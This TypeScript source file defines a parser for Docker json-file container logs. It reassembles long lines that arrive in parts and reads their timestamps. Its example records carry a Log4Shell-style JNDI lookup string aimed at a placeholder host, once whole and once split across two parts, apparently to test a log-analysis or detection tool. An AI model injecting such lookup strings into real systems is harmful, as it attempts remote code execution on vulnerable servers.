import { readTime } from '../time/read-time.ts'
import type { LogFormat, ReadRecord } from './format.ts'
import { textAt } from './members.ts'
import { joinedParts, type Part } from './parts.ts'

/**
 * What Docker keeps of a container's output: one JSON object a line, whose `log` is what was written. A line of more than
 * 16 KiB comes in parts; only its last ends with a line break.
 */
export const dockerJson: LogFormat = {
  id: 'docker-json',
  summary: "Docker's json-file: what a container wrote, parts of long lines put together, and read as what it is",
  definedBy: 'https://docs.docker.com/engine/logging/drivers/json-file/',
  examples: {
    reads: [
      {
        record:
          '{"log":"hello ${jndi:ldap://x.example/a}\\n","stream":"stdout","time":"2021-12-12T04:25:41.123456789Z"}',
        when: '2021-12-12T04:25:41.123Z',
      },
      {
        record:
          '{"log":"203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] \\"GET /a HTTP/1.1\\" 200 6 \\"-\\" \\"curl/7.79.1\\"\\n","stream":"stdout","time":"2021-12-12T04:25:41.5Z"}',
        when: '2021-12-12T04:25:41.5Z',
      },
      {
        record:
          '{"log":"hello ${jndi:ld","stream":"stdout","time":"2021-12-12T04:25:41Z"}\n{"log":"ap://x.example/a}\\n","stream":"stdout","time":"2021-12-12T04:25:41Z"}',
        when: '2021-12-12T04:25:41Z',
      },
    ],
    refuses: ['{"log":"a\\n"}', '{"stream":"stdout","time":"2021-12-12T04:25:41Z"}', '{"log":"a'],
  },
  read({ text, json }, { around }) {
    if (json !== null) return ofParts([json].map(partOf), (time) => readTime(time, around))
    if (!text.includes('\n') || !/^\{\s{0,4}"log"/.test(text)) return null
    return ofParts(text.split('\n').map(parsedPart), (time) => readTime(time, around))
  },
  spans: {
    mayHold: (line) => /^\{\s{0,4}"log"/.test(line),
    around: (piece, place) => joinedParts(piece, place, parsedPart),
  },
}

function ofParts(parts: readonly (Part | null)[], timeOf: (text: string) => ReadRecord['when']): ReadRecord | null {
  const [first] = parts
  if (first === undefined || first === null) return null
  const own = parts.filter((part) => part?.stream === first.stream)
  const value = own.map((part) => part?.text ?? '').join('')
  return {
    when: timeOf(first.time),
    from: null,
    request: null,
    userAgent: null,
    isPart: own.at(-1)?.goesOn === true,
    fields: [{ name: 'log', value, holdsRecord: true }],
  }
}

function parsedPart(line: string): Part | null {
  if (!line.startsWith('{')) return null
  try {
    return partOf(JSON.parse(line))
  } catch {
    return null
  }
}

function partOf(json: unknown): Part | null {
  const [text, stream, time] = [textAt(json, 'log'), textAt(json, 'stream'), textAt(json, 'time')]
  return text === null || stream === null || time === null ? null : { text, stream, time, goesOn: !text.endsWith('\n') }
}
